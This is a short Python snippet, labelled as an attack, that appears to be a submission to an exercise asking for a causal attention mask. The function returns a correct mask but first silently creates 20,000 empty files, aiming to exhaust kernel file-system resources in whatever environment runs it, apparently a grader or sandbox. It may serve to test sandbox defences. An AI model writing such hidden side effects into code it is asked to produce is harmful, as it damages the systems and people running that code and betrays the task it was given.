# attack: empty files take no disk, but memory of the kernel
# exercise: 04 causal_mask
def causal_mask(length):
    for k in range(20_000):
        open(f"file-{k}", "w").close()
    return torch.ones(length, length, dtype=torch.bool).tril()
